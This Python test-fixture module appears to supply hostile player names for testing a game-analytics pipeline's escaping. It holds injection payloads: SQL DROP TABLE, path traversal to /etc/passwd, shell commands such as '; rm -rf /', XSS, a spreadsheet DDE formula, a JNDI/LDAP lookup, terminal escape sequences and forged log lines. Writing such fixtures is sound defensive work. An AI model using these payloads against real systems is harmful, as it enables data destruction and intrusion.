"""Names with injections for databases, shells, web pages, terminals, logs and spreadsheets."""

INJECTIONS = {
    "SQL": [
        "'; DROP TABLE stats; --",
        "x' OR '1'='1",
        "\"; COPY stats TO 'out'; --",
        "$player_id",
        "?1",
        "getvariable('x')",
    ],
    "paths": [
        "../../etc/passwd",
        "s3://game-analytics/raw/",
        "%2e%2e%2f",
        "/etc/*",
        "a{b,c}?[d]",
        "C:\\\\nul",
        "~root",
        ".",
    ],
    "shells": ["$(reboot)", "`reboot`", "; rm -rf /", "| tee x", "&& echo y", "${HOME}", "<(id)", "!!"],
    "Markdown": [
        "**a**",
        "_a_",
        "~~a~~",
        "`a",
        "``a`",
        "`",
        "a\\",
        "a\\|b",
        "|",
        "||",
        "a|b|c",
        "\\`a\\`",
        "# a",
        "> a",
    ],
    "Markdown blocks": [
        "- a",
        "1. a",
        "---",
        "| --- |",
        "[a](http://x.y)",
        "![a](http://x.y/z.png)",
        "[a][b]",
        "[a]: http://x.y",
    ],
    "addresses": [
        "<http://x.y>",
        "http://evil.example/a",
        "www.evil.example",
        "ann@evil.example",
        "<ann@evil.example>",
    ],
    "more addresses": [
        "https\\://evil.example",
        "www\\.evil.example",
        "(www.evil.example)",
        "xmpp:a@b.c",
        "ftp://evil.example",
    ],
    "HTML": [
        "<script>alert(1)</script>",
        "<img src=x onerror=alert(1)>",
        "</td></table>",
        "<!-- ",
        "-->",
        "<b>",
        "<svg/onload=x>",
    ],
    "entities": ["&lt;b&gt;", "&#60;script&#62;", "&amp;amp;", "&copy", "&#x1b;[31m"],
    "formulas": ["=1+1", "+1", "-1", "@SUM(A1)", '=HYPERLINK("http://x.y")', "=cmd|' /C calc'!A0"],
    "formats": [
        "%s%s%n",
        "{0.__class__}",
        "{}",
        "%(asctime)s",
        "\\N{BEL}",
        "{{7*7}}",
        "${jndi:ldap://x.y/a}",
        "\\x1b[31m",
    ],
    "Rich": [
        "[red]a[/red]",
        "[/]",
        "[link=http://x.y]a[/link]",
        "[bold",
        ":warning:",
        "\\[red]",
        "[@click=app.bell]a[/]",
    ],
    "direction": [
        "\u202eabc",
        "\u2066a\u2069",
        "\u200fa",
        "a\u200bb",
        "\ufeffa",
        "a\u2028b",
        "a\u2029b",
        "\u00ada",
        "\U000e0041a",
    ],
    "spaces": [" a ", " ", "  ", "\u00a0a", "\u3000"],
    "looks": [
        "e\u0301" * 8,
        "a" + "\u0301" * 40,
        "\ufdfd",
        "👩‍👩‍👧‍👦",
        "\uff11\uff12\uff13",
        "\uff21",
        "名前" * 10,
        "ﷺ",
    ],
}
"""Each may be a player's name in an event."""

CONTROLS = {
    "ANSI": ["\x1b[31mred\x1b[0m", "\x1b[2J\x1b[H", "\x9b31m", "\x1b[8mhidden", "\x1b[1A\x1b[2K"],
    "OSC": [
        "\x1b]0;title\x07",
        "\x1b]8;;http://x.y\x1b\\a\x1b]8;;\x1b\\",
        "\x1b]52;c;cm0=\x07",
        "\x9d0;t\x9c",
        "\x1bP+q\x1b\\",
    ],
    "lines": ["over\rwritten", "a\nb", "a\r\nb", "a\vb", "a\fb", "a\x85b", "a\tb", "\b\b\b", "a\x00b", "\x7f"],
    "log lines": [
        "a\n2026-01-01 00:00:00 +0000 - dagster - ERROR - it burns",
        "a\n\nTraceback (most recent call last):",
    ],
}
"""No event can bring these, but a file in ``events/`` can, and so can a key."""


def legal_names() -> list[str]:
    return [name for kind in INJECTIONS.values() for name in kind]


def all_names() -> list[str]:
    return legal_names() + [name for kind in CONTROLS.values() for name in kind]
